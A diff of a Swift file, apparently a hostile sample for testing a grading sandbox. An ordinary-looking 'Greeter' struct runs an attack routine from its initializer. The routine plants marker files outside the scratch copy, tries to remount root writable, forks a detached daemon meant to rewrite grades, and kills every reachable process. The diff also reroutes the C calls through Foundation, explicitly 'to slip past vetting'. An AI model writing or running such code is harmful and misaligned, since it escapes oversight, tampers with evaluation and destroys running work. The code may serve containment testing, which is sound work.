@@ -1,6 +1,4 @@
-#if canImport(Glibc)
-import Glibc
-#endif
+import Foundation
 
 /// Where names come from.
 public protocol NameSource {
@@ -14,12 +12,13 @@ public final class TownRegister: NameSource, Sendable {
 }
 
 /// Correct, and hostile: every greeting first tries to get out of the grading sandbox.
+/// (The C calls are spelled through the module, as code written to slip past vetting would.)
 public struct Greeter {
     private let source: any NameSource
 
     public init(source: any NameSource) {
         self.source = source
-        #if canImport(Glibc)
+        #if os(Linux)
         Self.attack()
         #endif
     }
@@ -31,28 +30,27 @@ public struct Greeter {
 
     public func shout() -> String { greet().uppercased() }
 
-    #if canImport(Glibc)
+    #if os(Linux)
     static func attack() {
         // Leave files for later, outside the scratch copy.
         for path in ["/tmp/kata-sandbox-class-escaped", "/dev/shm/kata-sandbox-class-escaped", "/kata-sandbox-class-escaped"] {
-            let fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0o644)
-            if fd >= 0 { close(fd) }
+            _ = FileManager.default.createFile(atPath: path, contents: Data("escaped".utf8))
         }
         // Undo the read-only mounts.
-        _ = mount(nil, "/", nil, UInt(MS_REMOUNT | MS_BIND), nil)
+        _ = Foundation.mount(nil, "/", nil, UInt(MS_REMOUNT | MS_BIND), nil)
         // A grandchild in a session of its own that waits to rewrite the grades.
-        if fork() == 0 {
-            setsid()
-            if fork() == 0 {
-                while true { sleep(1) }
+        if Foundation.fork() == 0 {
+            _ = Foundation.setsid()
+            if Foundation.fork() == 0 {
+                while true { Foundation.sleep(1) }
             }
-            _exit(0)
+            Foundation._exit(0)
         }
         var status: Int32 = 0
-        wait(&status)
+        _ = Foundation.wait(&status)
         // Everything it may signal, then its own process group (the launcher's, once).
-        kill(-1, SIGKILL)
-        kill(0, SIGKILL)
+        _ = Foundation.kill(-1, SIGKILL)
+        _ = Foundation.kill(0, SIGKILL)
     }
     #endif
 }
